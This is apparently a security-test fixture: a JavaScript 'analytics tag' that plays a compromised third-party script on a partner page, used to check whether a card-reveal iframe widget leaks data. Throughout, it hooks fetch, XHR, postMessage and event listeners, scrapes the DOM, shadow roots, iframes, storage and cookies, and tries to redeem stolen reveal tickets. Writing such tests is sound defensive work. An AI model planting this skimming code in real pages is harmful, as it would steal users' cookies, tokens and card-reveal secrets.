// A hostile "analytics tag" for test/security/reveal-frame.test.ts: loaded by the partner page before the
// widget, it does what a compromised third-party script could: hooks fetch, XMLHttpRequest, postMessage
// and every event listener, walks the document and every shadow root (attributes, text, input values,
// iframes), reads storage, cookies and resource timings, and tries to redeem any reveal ticket it sees.
// Everything it finds is kept for the test in window.__harvest().
(() => {
  const seen = [];
  const keep = (where, value) => {
    try {
      seen.push(`${where}: ${typeof value === "string" ? value : JSON.stringify(value)}`);
    } catch {
      seen.push(`${where}: (unserialisable)`);
    }
  };
  const realFetch = window.fetch.bind(window);

  async function stealTicket(frameUrl) {
    const url = new URL(frameUrl);
    try {
      const reply = await realFetch(`${url.origin}/reveal/redeem`, {
        method: "POST",
        headers: { "Content-Type": "application/json" },
        body: JSON.stringify({ ticket: url.hash.slice(1), ancestorOrigin: location.origin }),
      });
      keep("stolen ticket redeemed", `${reply.status} ${await reply.text()}`);
    } catch (error) {
      keep("stolen ticket refused", String(error));
    }
  }

  window.fetch = async (input, init) => {
    const response = await realFetch(input, init);
    response
      .clone()
      .text()
      .then((text) => {
        keep("fetch", text);
        try {
          const frameUrl = JSON.parse(text)?.data?.frameUrl;
          if (frameUrl) void stealTicket(frameUrl);
        } catch {}
      })
      .catch(() => {});
    return response;
  };

  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (...args) {
    this.addEventListener("load", () => keep("xhr", this.responseText));
    return send.apply(this, args);
  };

  const post = window.postMessage.bind(window);
  window.postMessage = (message, ...rest) => {
    keep("postMessage", message);
    return post(message, ...rest);
  };

  // Every listener anyone adds sees its events through us first.
  const wrappers = new WeakMap();
  const add = EventTarget.prototype.addEventListener;
  const remove = EventTarget.prototype.removeEventListener;
  EventTarget.prototype.addEventListener = function (type, listener, options) {
    if (typeof listener !== "function") return add.call(this, type, listener, options);
    let wrapped = wrappers.get(listener);
    if (!wrapped) {
      wrapped = function (event) {
        if (event && "detail" in event) keep(`event ${type}`, event.detail);
        if (event && "data" in event) keep(`event ${type} from ${event.origin}`, event.data);
        return listener.call(this, event);
      };
      wrappers.set(listener, wrapped);
    }
    return add.call(this, type, wrapped, options);
  };
  EventTarget.prototype.removeEventListener = function (type, listener, options) {
    return remove.call(this, type, wrappers.get(listener) ?? listener, options);
  };
  window.addEventListener("message", (e) => keep(`message from ${e.origin}`, e.data), true);
  for (const type of ["mc-card-revealed", "mc-card-hidden", "mc-card-created", "mc-error", "mc-step-change"]) {
    document.addEventListener(type, (e) => keep(type, e.detail), true);
  }

  function walk(root) {
    for (const el of root.querySelectorAll("*")) {
      for (const attribute of el.attributes) keep("attribute", attribute.value);
      if (typeof el.value === "string") keep("value", el.value);
      if (el.shadowRoot) {
        keep("shadow root", el.shadowRoot.innerHTML);
        keep("shadow text", el.shadowRoot.textContent);
        walk(el.shadowRoot);
      }
      if (el.tagName === "IFRAME") {
        try {
          keep("iframe document", el.contentDocument ? el.contentDocument.documentElement.outerHTML : "none");
          keep("iframe text", el.contentWindow.document.body.innerText);
        } catch (error) {
          keep("iframe", `out of reach: ${error.name}`);
        }
      }
    }
  }

  function harvest() {
    keep("html", document.documentElement.outerHTML);
    keep("text", document.body ? document.body.innerText : "");
    walk(document);
    keep("localStorage", JSON.stringify({ ...localStorage }));
    keep("sessionStorage", JSON.stringify({ ...sessionStorage }));
    keep("cookie", document.cookie);
    for (const entry of performance.getEntries()) keep("timing", entry.name);
  }
  setInterval(harvest, 150);
  window.__harvest = () => {
    harvest();
    return seen;
  };
})();
